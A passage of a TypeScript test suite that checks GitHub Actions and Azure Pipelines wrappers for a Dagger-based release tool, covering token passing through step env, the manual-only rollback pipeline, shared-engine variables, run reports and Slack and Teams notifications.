    const call = callOf(ci, ci.steps.find((s) => s.kind === "call") as Step, {});
    expect(ci.steps.find((s) => s.kind === "call")?.env.PR_TARGET).toBe("$(System.PullRequest.targetBranchName)");
    expect(flag(call.segments[0], "base")).toBe("origin/$(System.PullRequest.targetBranchName)");
    for (const [id, env] of [["release_dev", "dev"], ["promote_staging", "staging"], ["promote_prod", "prod"]] as const) {
      const job = stage(id);
      const step = job.steps.find((s) => s.kind === "call") as Step;
      const segments = callOf(job, step, {}).segments;
      expect(job.raw.deployment).toBeDefined();
      expect(job.environment).toBe(env);
      expect(flag(segments[0], "environment")).toBe(env);
      expect(segments.map((seg) => seg.name).slice(-2)).toEqual(["reports", "export"]);
      expect(job.steps.at(-1)?.kind).toBe("verdict");
      expect(byId[id]?.variables).toEqual([{ group: `slipway-${env}` }]);
      // The environment's workload identity federation service connection; Slipway mints fresh OIDC tokens
      // through it, so the task's 10-minute idToken is not passed (it would win and expire mid-release).
      expect(step.raw.task).toBe("AzureCLI@2");
      expect(step.raw.inputs).toMatchObject({ azureSubscription: `slipway-${env}`, scriptType: "bash", scriptLocation: "inlineScript" });
      expect(flag(segments[0], "oidcRequestUri")).toBe("https://dev.azure.example/oidc");
      expect([flag(segments[0], "systemAccessToken"), step.env.SYSTEM_ACCESSTOKEN]).toEqual(["env:SYSTEM_ACCESSTOKEN", "$(System.AccessToken)"]);
      expect(segments[0]?.flags.has("idToken")).toBe(false);
    }
  });

  it("rollback.yml runs only by hand, in the chosen environment, with its ledger id passed through the environment", () => {
    const pipeline = load(ADO_ROLLBACK) as { trigger: unknown; pr: unknown; parameters: Array<{ name: string; values?: string[]; default?: string }> };
    expect([pipeline.trigger, pipeline.pr]).toEqual(["none", "none"]);
    expect(pipeline.parameters.find((p) => p.name === "environment")?.values).toEqual(["dev", "staging", "prod"]);
    const [job] = adoJobs(ADO_ROLLBACK) as [Job];
    expect(job.environment).toBe("${{ parameters.environment }}");
    const step = job.steps.find((s) => s.kind === "call") as Step;
    expect(step.env).toMatchObject({ ROLLBACK_ENVIRONMENT: "${{ parameters.environment }}", ROLLBACK_TO: "${{ parameters.to }}", GITOPS_TOKEN: "$(GITOPS_TOKEN)" });
    const segments = callOf(job, step, {}).segments;
    expect([flag(segments[0], "environment"), flag(segments[0], "to"), flag(segments[0], "source")]).toEqual(["${{ parameters.environment }}", "${{ parameters.to }}", "."]);
  });

  it("no script uses an Azure Pipelines macro or a secret directly: values arrive through the step's env", () => {
    for (const job of [...adoJobs(ADO), ...adoJobs(ADO_ROLLBACK)]) {
      for (const step of job.steps.filter((s) => s.kind !== "install" && s.kind !== "checkout" && s.kind !== "publish")) expect({ step: step.name, script: step.script }).not.toEqual({ step: step.name, script: expect.stringMatching(/\$\(|\$\{\{/) });
    }
  });
});

describe("ci/ wrappers: the optional shared engine (README \"Scaling out\")", () => {
  const RUNNER = "_EXPERIMENTAL_DAGGER_RUNNER_HOST";
  const TOKEN = "DAGGER_CLOUD_TOKEN";
  // engine/version.go RunnerHost: without the variable the CLI starts docker-image://registry.dagger.io/engine:<its version>.
  const CLI_DEFAULT = `docker-image://registry.dagger.io/engine:${ENGINE_VERSION}`;
  const ADO_CLOUD = "${{ if eq(variables.DAGGER_CLOUD, 'true') }}";
  const daggerSteps = (job: Job) => job.steps.filter((s) => s.kind === "call" || s.kind === "report" || s.kind === "notify" || s.kind === "verdict");
  // What the steps passed before the engine inputs: those and only those may sit beside them.
  const OWN = ["BASE", "PR_TARGET", "GITOPS_TOKEN", "KUBECONFIG_CONTENT", "DATABASE_URLS", "SYSTEM_ACCESSTOKEN", "ROLLBACK_ENVIRONMENT", "ROLLBACK_TO", "SLACK_WEBHOOK_URL", "TEAMS_WEBHOOK_URL", "RUN_URL"];

  it.each([GITHUB, ADO, ADO_ROLLBACK])("%s: every dagger step, and no other step, gets the runner host and the Cloud token, through env: only", (file) => {
    for (const job of allJobs().filter((j) => j.file === file)) {
      for (const step of job.steps) {
        const dagger = step.kind === "call" || step.kind === "report" || step.kind === "notify" || step.kind === "verdict";
        const keys = Object.keys(step.env);
        expect({ job: job.id, step: step.name, runner: keys.includes(RUNNER) }).toEqual({ job: job.id, step: step.name, runner: dagger });
        if (!dagger) continue;
        const cloud = file === GITHUB ? step.env[TOKEN] : (step.env[ADO_CLOUD] as unknown as Record<string, string> | undefined)?.[TOKEN];
        expect({ job: job.id, step: step.name, cloud }).toEqual({ job: job.id, step: step.name, cloud: file === GITHUB ? "${{ secrets.DAGGER_CLOUD_TOKEN }}" : "$(DAGGER_CLOUD_TOKEN)" });
        expect({ job: job.id, step: step.name, others: keys.filter((k) => ![RUNNER, TOKEN, ADO_CLOUD, ...OWN].includes(k)) }).toEqual({ job: job.id, step: step.name, others: [] });
        expect(step.script).not.toMatch(/RUNNER_HOST|DAGGER_CLOUD/);
      }
      // Nothing else: the jobs keep their shape (checked above) and no job-level env or variables appear.
      expect({ job: job.id, env: job.raw.env }).toEqual({ job: job.id, env: undefined });
    }
  });

  it("GitHub: unset, the runner host is the CLI's own default (never empty) and the token is empty; set, they are passed as given", () => {
    for (const job of githubJobs()) {
      for (const step of daggerSteps(job)) {
        const unset = stepEnv(job, step, contextFor(eventOf(job), { secrets: {} }));
        expect({ job: job.id, step: step.name, runner: unset[RUNNER], token: unset[TOKEN] }).toEqual({ job: job.id, step: step.name, runner: CLI_DEFAULT, token: "" });
        const set = stepEnv(job, step, contextFor(eventOf(job), { vars: { DAGGER_RUNNER_HOST: "tcp://dagger-engine.dagger.svc.cluster.local:1234" }, secrets: { DAGGER_CLOUD_TOKEN: "dag_acme_x" } }));
        expect([set[RUNNER], set[TOKEN]]).toEqual(["tcp://dagger-engine.dagger.svc.cluster.local:1234", "dag_acme_x"]);
        // The call is unchanged by them: same function, same flags, still valid.
        expect(callOf(job, step, contextFor(eventOf(job), { vars: { DAGGER_RUNNER_HOST: "tcp://e:1234" } })).problems).toEqual([]);
      }
    }
  });

  it.each([ADO, ADO_ROLLBACK])("%s: DAGGER_RUNNER_HOST defaults to the CLI's own engine; the Cloud token is mapped only when DAGGER_CLOUD is 'true'", (file) => {
    const variables = load(file).variables as Array<{ name?: string; value?: unknown }>;
    expect(variables.find((v) => v.name === "DAGGER_RUNNER_HOST")?.value).toBe(CLI_DEFAULT);
    // An undefined `$(DAGGER_CLOUD_TOKEN)` would reach the CLI as that text: off unless asked for.
    expect(variables.find((v) => v.name === "DAGGER_CLOUD")?.value).toBe("false");
    for (const job of adoJobs(file)) {
      for (const step of daggerSteps(job)) {
        expect({ step: step.name, runner: step.env[RUNNER], token: step.env[TOKEN] }).toEqual({ step: step.name, runner: "$(DAGGER_RUNNER_HOST)", token: undefined });
      }
    }
  });
});

describe("ci/ wrappers: run reports, job summaries and notifications (README \"Run reports\")", () => {
  const context = (job: Job) => contextFor(eventOf(job));
  const reporting = (): Job[] => allJobs();
  const isRollback = (j: Job) => j.file === ADO_ROLLBACK || j.id === "rollback";
  /** The words of a non-dagger step, as bash would run them. */
  const argv = (job: Job, step: Step) => {
    const script = job.file === GITHUB ? interpolate(step.script ?? "", context(job)) : (step.script ?? "");
    expect({ step: step.name, logic: shellLogic(script) }).toEqual({ step: step.name, logic: [] });
    return words(script, stepEnv(job, step, context(job)));
  };

  it("ci, release, promote and rollback export the run's reports, publish the Markdown as the job summary, keep the directory and end on its verdict", () => {
    const jobs = reporting();
    expect(jobs.map((j) => j.id).sort()).toEqual(["ci", "ci", "promote-prod", "promote-staging", "promote_prod", "promote_staging", "release", "release_dev", "rollback", "rollback"]);
    for (const job of jobs) {
      const call = callOf(job, job.steps.find((s) => s.kind === "call") as Step, context(job));
      expect({ job: job.id, problems: call.problems }).toEqual({ job: job.id, problems: [] });
      const dir = flag(call.segments.at(-1), "path");
      expect({ job: job.id, chain: call.segments.slice(-2).map((seg) => seg.name) }).toEqual({ job: job.id, chain: ["reports", "export"] });
      expect(typeof dir).toBe("string");

      const summary = job.steps.filter((s) => s.kind === "summary");
      expect({ job: job.id, summaries: summary.length }).toEqual({ job: job.id, summaries: 1 });
      const words = argv(job, summary[0] as Step);
      if (job.file === GITHUB) {
        // cp into the step's own summary file: the same as appending to it, with no shell redirection.
        expect(words).toEqual(["cp", `${String(dir)}/report.md`, stepEnv(job, summary[0] as Step, context(job)).GITHUB_STEP_SUMMARY]);
        expect(summary[0]?.raw.if).toBe(`always() && hashFiles('${String(dir)}/report.md') != ''`);
      } else {
        // The path comes through the step's env (a macro the agent expands; BUILD_ARTIFACTSTAGINGDIRECTORY is /a here).
        expect(words.map((w) => w.replace("$(Build.ArtifactStagingDirectory)", "/a"))).toEqual(["echo", `##vso[task.uploadsummary]${String(dir)}/report.md`]);
      }

      const kept = job.steps.find((s) => s.kind === "publish" && /upload-artifact|PublishPipelineArtifact/.test(String(s.raw.uses ?? s.raw.task)));
      const keptPath = job.file === GITHUB ? (kept?.raw.with as { path?: string } | undefined)?.path : String((kept?.raw.inputs as { targetPath?: string } | undefined)?.targetPath).replace("$(Build.ArtifactStagingDirectory)", "/a");
      expect({ job: job.id, kept: keptPath?.replace(/\/$/, "") }).toEqual({ job: job.id, kept: dir });

      const verdict = job.steps.at(-1) as Step;
      expect({ job: job.id, kind: verdict.kind }).toEqual({ job: job.id, kind: "verdict" });
      const v = callOf(job, verdict, context(job));
      expect(v.problems).toEqual([]);
      expect(v.segments.map((seg) => seg.name)).toEqual(["reportVerdict"]);
      expect(flag(v.segments[0], "run")).toBe(`${String(dir)}/run-report.json`);
    }
  });

  it("release, promote and rollback notify Slack and Teams from their one call (started, then the outcome): webhooks as env: Secrets, the run link, the trigger and the workflow name whole", () => {
    for (const job of reporting().filter((j) => j.id !== "ci")) {
      // No separate notify step: the call posts started before it writes anything and its outcome at the end.
      expect({ job: job.id, notify: job.steps.filter((s) => s.kind === "notify").length }).toEqual({ job: job.id, notify: 0 });
      const step = job.steps.find((s) => s.kind === "call") as Step;
      const call = callOf(job, step, context(job));
      expect({ job: job.id, problems: call.problems }).toEqual({ job: job.id, problems: [] });
      const seg = call.segments[0];
      expect([seg?.name, flag(seg, "slackWebhook"), flag(seg, "teamsWebhook")]).toEqual([isRollback(job) ? "rollbackRun" : job.id.startsWith("promote") ? "promote" : "release", "env:SLACK_WEBHOOK_URL", "env:TEAMS_WEBHOOK_URL"]);
      // The webhooks come from the secret store, never from the script.
      expect([step.env.SLACK_WEBHOOK_URL, step.env.TEAMS_WEBHOOK_URL]).toEqual(
        job.file === GITHUB ? ["${{ secrets.SLACK_WEBHOOK_URL }}", "${{ secrets.TEAMS_WEBHOOK_URL }}"] : ["$(SLACK_WEBHOOK_URL)", "$(TEAMS_WEBHOOK_URL)"],
      );
      // Who triggered it: only the names the module accepts, one NAME=VALUE each.
      const trigger = flag(seg, "trigger");
      expect(trigger).toEqual(job.file === GITHUB ? ["GITHUB_ACTOR=octocat", "GITHUB_RUN_ID=4242"] : ["BUILD_REQUESTEDFOR=Ada Lovelace", "BUILD_BUILDID=17"]);
      // The workflow's name as one string flag, commas and quotes kept (a list flag would split it on commas).
      expect(flag(seg, "workflow")).toBe(job.file === GITHUB ? 'Release, then "promote"' : "shop, release");
      // Why not --trigger "GITHUB_WORKFLOW=...": the same name through the list flag arrives cut, or fails the parse.
      const listed = (name: string) => checkCall(words(`dagger call notify --source . --report r.json --trigger 'GITHUB_WORKFLOW=${name}'`, {}));
      expect(flag(listed("Release, then promote").segments[0], "trigger")).toEqual(["GITHUB_WORKFLOW=Release", " then promote"]);
      expect(listed('Release "x"').problems).toEqual([`notify: --trigger ${JSON.stringify('GITHUB_WORKFLOW=Release "x"')}: bare " in non-quoted-field`]);
      expect(flag(seg, "runUrl")).toMatch(job.file === GITHUB ? /^https:\/\/github\.com\/acme\/shop\/actions\/runs\/4242$/ : /^\$\(System\.CollectionUri\)\$\(System\.TeamProjectId\)\/_build\/results\?buildId=\$\(Build\.BuildId\)$/);
    }
  });

  it("the rollback jobs run rollbackRun (which returns even when a step failed, so its reports and diagnostics are exported)", () => {
    const rollbacks = allJobs().filter(isRollback);
    expect(rollbacks).toHaveLength(2);
    for (const job of rollbacks) {
      const call = callOf(job, job.steps.find((s) => s.kind === "call") as Step, context(job));
      expect({ job: job.id, chain: call.segments.map((seg) => seg.name) }).toEqual({ job: job.id, chain: ["rollbackRun", "reports", "export"] });
    }
  });
});
